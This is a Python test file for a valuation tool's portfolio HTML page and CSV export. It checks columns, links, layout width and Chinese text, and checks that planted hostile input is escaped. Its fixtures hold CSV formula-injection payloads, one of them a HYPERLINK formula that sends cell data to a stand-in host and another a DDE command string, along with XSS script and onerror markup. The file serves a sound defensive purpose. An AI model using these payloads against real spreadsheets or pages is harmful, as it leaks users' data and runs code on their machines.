"""The portfolio page and CSV: every column asked for, planted payloads neutralised and
escaped, brief links relative, the page laid out within 1280 px (WeasyPrint as the layout
engine: a 1280-px wide page)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from valuation.report import portfolio

PAYLOADS = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR")
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def _results(target: str, name: str, side: str = "buyer", asking: float | None = 3_500_000.0,
             exists: bool = False, gap: float | None = 800_000.0) -> dict:
    return {
        "target": target, "name": name, "side": side, "as_of": "2025-06-30", "lang": "zh",
        "headline": {
            "customers": 2541, "active_customers": 836, "consent_coverage": 0.8359,
            "quality_score": 65.14, "equity_p10": 2_076_623.0, "equity_p50": 2_439_059.0,
            "equity_p90": 2_885_170.0, "anchor_price": 2_100_000.0, "target_price": 2_450_000.0,
            "walk_away_price": 2_700_000.0, "asking_price": asking, "churn_12m": 0.89,
            "top_risks": [{"risk": "churn_after_transfer", "name": "转让后的客户流失", "effect": 4.0e5},
                          {"risk": "assumption:inactivity_days", "name": "x", "effect": 1.9e5},
                          {"risk": "consent_gap", "name": "y", "effect": 1.6e5}],
        },
        "valuation": {"zone": {"exists": exists, "gap": gap}},
    }


@pytest.fixture()
def written(tmp_path):
    out = tmp_path / "outputs"
    brief = out / "alpha school" / "brief.html"
    brief.parent.mkdir(parents=True)
    brief.write_text("<p>brief</p>", encoding="utf-8")
    entries = [
        {**_results("alpha", "阿尔法学校 " + SCRIPT), "brief_path": str(brief), "seconds": 31.0},
        {**_results("beta", PAYLOADS[0], side="seller", asking=None, gap=None), "status": "ok"},
        {"target": "gamma", "status": "failed", "error": PAYLOADS[1] + " " + SCRIPT},
    ]
    for i, payload in enumerate(PAYLOADS[2:]):
        entries.append({**_results(f"p{i}", payload), "status": "ok"})
    html, csv_path = portfolio.write_portfolio(entries, out)
    return out, html, csv_path


def test_every_column_is_there_with_risks_in_words_and_a_relative_brief_link(written):
    out, html_path, csv_path = written
    rows = {r["target"]: r for r in csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8")))}
    alpha = rows["alpha"]
    assert float(alpha["asking_price"]) == 3_500_000.0
    assert float(alpha["equity_p10"]) <= float(alpha["equity_p50"]) <= float(alpha["equity_p90"])
    assert float(alpha["walk_away_price"]) == 2_700_000.0 and float(alpha["gap_to_walk_away"]) == 800_000.0
    assert float(alpha["quality_score"]) == pytest.approx(65.14)
    assert float(alpha["consent_coverage"]) == pytest.approx(0.8359)
    assert alpha["top_risks"] == ("Churn after the transfer; Assumption: inactivity days; "
                                  "Consent gap")
    assert alpha["brief"] == "alpha%20school/brief.html"
    assert (out / "alpha school" / "brief.html").is_file()
    assert rows["gamma"]["status"] == "failed"
    page = html_path.read_text(encoding="utf-8")
    for text in ("Counterparty price", "¥3.50m", "¥2.08m", "¥2.44m", "¥2.89m", "¥2.10m",
                 "¥2.70m", "¥800k", "no agreement zone", "65", "83.6%", "Churn after the transfer",
                 'href="alpha%20school/brief.html"', "no price yet"):
        assert text in page, text
    for code in ("churn_after_transfer", "consent_gap", "assumption:"):
        assert code not in page


def test_planted_markup_is_escaped_in_the_html(written):
    _, html_path, _ = written
    page = html_path.read_text(encoding="utf-8")
    assert "<script>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert not re.search(r"<(script|link|iframe)\b", page)
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page)  # nothing remote


def test_formula_cells_are_neutralised_in_the_csv(written):
    _, _, csv_path = written
    rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    for payload in PAYLOADS:
        found = [c for c in cells if payload in c]
        assert found, payload
        for cell in found:
            assert cell.startswith("'") or not cell.startswith(portfolio.FORMULA_PREFIXES), cell
    assert not [c for c in cells if c.startswith(portfolio.FORMULA_PREFIXES)]
    assert portfolio.neutralise_cell("=1+1") == "'=1+1"
    assert portfolio.neutralise_cell(-5000.0) == -5000.0  # numbers stay numbers
    assert portfolio.neutralise_cell("Alpha") == "Alpha"


def test_the_page_fits_1280_px(written, tmp_path):
    weasyprint = pytest.importorskip("weasyprint")
    _, html_path, _ = written
    css = weasyprint.CSS(string="@page { size: 1280px 2000px; margin: 0 }")
    document = weasyprint.HTML(filename=str(html_path)).render(stylesheets=[css])

    def boxes(box):
        yield box
        for child in getattr(box, "children", ()) or ():
            yield from boxes(child)

    page = document.pages[0]
    widest = max(b.position_x + b.margin_width() for b in boxes(page._page_box)
                 if hasattr(b, "margin_width") and type(b).__name__ not in ("PageBox",))
    assert widest <= 1280 + 0.5


def test_the_portfolio_reads_in_chinese(tmp_path):
    html, _ = portfolio.write_portfolio([_results("alpha", "阿尔法")], tmp_path, lang="zh")
    page = html.read_text(encoding="utf-8")
    assert "对方报价" in page and "¥350万" in page and "转让后的客户流失" in page
    assert '<html lang="zh">' in page
